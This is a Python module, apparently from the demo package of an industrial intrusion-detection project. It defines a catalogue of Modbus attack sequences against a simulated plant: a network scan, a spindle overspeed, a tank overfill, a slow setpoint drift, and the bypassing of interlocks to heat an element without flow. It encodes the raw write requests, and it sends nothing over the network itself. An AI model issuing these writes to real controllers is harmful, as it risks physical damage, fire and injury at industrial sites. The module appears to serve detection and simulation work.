"""The catalogue of attacks: each a finite sequence of Modbus requests that somebody inside the network could send.

In: the plant's interface and a pause.  Out: `Shot`s; nothing here opens a socket.  All of them but the scan end in damage where nobody
intervenes.
"""

from collections.abc import Iterator
from dataclasses import dataclass, replace

from sentinel.demo.wiring import Interface
from sentinel.errors import ConfigError
from sentinel.model.tags import Table


@dataclass(frozen=True, slots=True)
class Shot:
    """One request: how long after the one before, and what."""

    says: str
    pdu: bytes
    after_s: float = 0.0
    unit: int = 1
    tag: str | None = None
    value: float | None = None


def write(interface: Interface, tag: str, value: float, says: str, after_s: float = 0.0) -> Shot:
    point = interface.tags.by_name[tag].modbus
    if point is None or point.table not in (Table.COIL, Table.HOLDING):
        raise ConfigError(f"tag {tag}", "cannot be written over Modbus")
    address = point.address.to_bytes(2, "big")
    raw = point.encode(value)
    written = raw[0].to_bytes(2, "big") if not point.is_bit else b"\xff\x00" if raw[0] else b"\x00\x00"
    return Shot(says, (b"\x05" if point.is_bit else b"\x06") + address + written, after_s, point.unit, tag, value)


def read(interface: Interface, function: int, count: int, says: str) -> Shot:
    return Shot(says, bytes([function]) + (0).to_bytes(2, "big") + count.to_bytes(2, "big"), unit=interface.unit)


def rogue_master(interface: Interface, pause_s: float) -> Iterator[Shot]:
    """A master that nobody knows reads the plant, then drives the spindle past what the tool holder bears."""
    for _ in range(4):
        yield replace(read(interface, 4, 17, "reads the process values"), after_s=pause_s / 2)
        yield read(interface, 3, 16, "reads setpoints and limits")
    yield write(interface, "SIC301.SP", 12_000, "drives the spindle to 12000 rpm", pause_s)


def setpoint(interface: Interface, pause_s: float) -> Iterator[Shot]:
    """One setpoint outside the envelope: T101 up to its rim."""
    yield read(interface, 3, 1, "reads the level setpoint of T101")
    yield write(interface, "LIC101.SP", 1.95, "sets the level setpoint of T101 to 1.95 m", pause_s)


def pump_stop(interface: Interface, pause_s: float) -> Iterator[Shot]:
    """The way out shut, the way in open: both tanks fill."""
    yield write(interface, "LIC102.AUTO", 0, "takes LIC102 into manual")
    yield write(interface, "LIC102.OP", 0, "shuts FV102", pause_s)
    yield write(interface, "P102.RUN", 0, "stops P102", pause_s)
    yield write(interface, "LIC101.AUTO", 0, "takes LIC101 into manual", pause_s)
    yield write(interface, "LIC101.OP", 100, "drives P101 to full speed", pause_s)


def drift(interface: Interface, pause_s: float) -> Iterator[Shot]:
    """The level setpoint of T101 in steps as small as the operator's own, always upwards."""
    steps = 38
    for step in range(1, steps + 1):
        value = min(1.2 + 0.02 * step, 1.95)
        yield write(interface, "LIC101.SP", value, f"moves the level setpoint of T101 to {value:.2f} m", 10 * pause_s)


def disarm(interface: Interface, pause_s: float) -> Iterator[Shot]:
    """Limits moved, interlocks bypassed, then the element heated without flow."""
    yield write(interface, "H201.HH", 200, "moves the element's limit to 200 degC")
    yield write(interface, "P201.LL", 0, "moves the low-flow limit to nothing", pause_s)
    yield write(interface, "BYPASS", 1, "bypasses all interlocks", pause_s)
    yield write(interface, "TIC201.AUTO", 0, "takes TIC201 into manual", pause_s)
    yield write(interface, "TIC201.OP", 100, "heats H201 with full power", pause_s)
    yield write(interface, "P201.RUN", 0, "stops the circulation", pause_s)


def scan(interface: Interface, pause_s: float) -> Iterator[Shot]:
    """Which units answer, which functions there are, what the device is."""
    for unit in (*range(17), 247, 255):
        yield Shot(f"asks unit {unit} who it is", b"\x11", pause_s / 20, unit)
    yield Shot("reads the device's identification", b"\x2b\x0e\x01\x00", pause_s / 20, interface.unit)
    for function in (1, 2, 3, 4, 7, 8, 11, 12, 20, 24, 65, 90, 100):
        yield Shot(f"tries function {function}", bytes([function, 0, 0, 0, 1]), pause_s / 20, interface.unit)


CASES = {case.__name__: case for case in (rogue_master, setpoint, pump_stop, drift, disarm, scan)}


def case_writes(case: str, interface: Interface, at_s: float = 0.0, pause_s: float = 0.4) -> list[tuple[float, str, float]]:
    """The writes of a case, begun at ``at_s``, for `simulation.simulate`: what it does where nobody intervenes."""
    writes: list[tuple[float, str, float]] = []
    for shot in CASES[case](interface, pause_s):
        at_s += shot.after_s
        if shot.tag is not None and shot.value is not None:
            writes.append((at_s, shot.tag, shot.value))
    return writes
